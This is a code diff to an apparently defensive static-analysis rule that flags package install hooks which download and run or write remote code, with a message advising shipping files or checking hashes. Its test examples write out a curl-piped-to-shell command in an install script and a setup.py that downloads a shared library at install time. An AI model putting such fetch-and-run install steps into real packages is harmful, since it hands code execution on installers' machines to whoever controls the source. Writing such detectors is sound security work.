@@ -1,5 +1,6 @@
 /** Code that runs unasked, when a package is installed or a tool starts, and brings in code. */
 
+import { isCodeFile } from '../flow/code-files.ts';
 import { foreignCode } from './foreign-code.ts';
 import { beside, inFile, javascript, python, type Rule } from './rule.ts';
 import { MALICIOUS_CODE, NO_INTEGRITY_CHECK, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';
@@ -15,6 +16,9 @@ const MOMENTS: readonly (readonly [RegExp, string])[] = [
     'A script of this name runs while the package is installed, with the rights of whoever installs it',
   ],
 ];
+
+/** Archives, and files whose names tell nothing: programs are often called so. */
+const MAY_HOLD_CODE = /(?:\.(?:zip|tar|t?gz|xz|whl|jar|bin|pkg|deb)|(?:^|\/)[^./]+)$/i;
 
 export const installHook: Rule = {
   id: 'install-hook',
@@ -34,7 +38,17 @@ export const installHook: Rule = {
     }
     const moment = MOMENTS.find(([name]) => name.test(flow.fileName))?.[1];
     if (!moment) return;
-    for (const it of foreignCode(flow, unsafeDeserialization)) yield { ...it, message: `${moment}. ${it.message}` };
+    const run = foreignCode(flow, unsafeDeserialization);
+    for (const it of run) yield { ...it, message: `${moment}. ${it.message}` };
+    if (run.length > 0) return;
+    for (const write of flow.writes()) {
+      if (!write.paths.some((it) => isCodeFile(it) || MAY_HOLD_CODE.test(it))) continue;
+      const origin = flow.written(write).find((it) => it.kind === 'remote');
+      if (!origin) continue;
+      const { start, end } = write.content?.span ?? write.call.span;
+      const message = `${moment}. ${write.call.name} writes what ${origin.name} downloads: whoever controls that source decides what is installed. Ship the file with the package, or compare it with a known hash.`;
+      yield { start, end, message, steps: origin.steps };
+    }
   },
 
   examples: [
@@ -62,6 +76,16 @@ export const installHook: Rule = {
         const { execSync } = require('node:child_process');
         execSync('curl -fsSL https://example.com/setup.sh | sh');
                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+      `,
+    ),
+    inFile(
+      'setup.py',
+      python`
+        import urllib.request
+        from setuptools import setup
+        urllib.request.urlretrieve("https://example.com/libtables.so", "tables/libtables.so")
+        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook
+        setup(name="tables")
       `,
     ),
     inFile(
